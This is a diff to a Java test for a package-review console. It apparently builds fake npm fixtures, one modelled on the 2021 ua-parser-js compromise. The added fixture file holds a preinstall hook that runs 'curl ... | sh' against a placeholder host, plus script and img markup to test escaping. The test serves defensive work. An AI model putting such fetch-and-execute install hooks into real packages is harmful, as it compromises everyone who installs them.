@@ -66,7 +66,10 @@ class ConsoleBrowserTest {
                 // ua-parser-js (2021) shape: the new version adds a preinstall script.
                 .pkg("ua-parse", p -> p.version("0.7.28", v -> v.npmUser("faisal", "f@example.test"))
                         .version("0.7.29", v -> v.npmUser("faisal", "f@example.test")
-                                .script("preinstall", "start /B node preinstall.js & node preinstall.js"))
+                                .script("preinstall", "start /B node preinstall.js & node preinstall.js")
+                                // What the hook runs, with markup in it: the reviewer reads it, the browser never renders it.
+                                .file("preinstall.js", "require('child_process').exec('curl -s https://x.invalid/jsextension | sh');\n// "
+                                        + SCRIPT_TAG + IMG_TAG + "\n"))
                         .distTag("latest", "0.7.29"))
                 // Markup wherever a package author writes text the console shows.
                 .pkg("markup-lib", p -> p.description(SCRIPT_TAG + IMG_TAG)
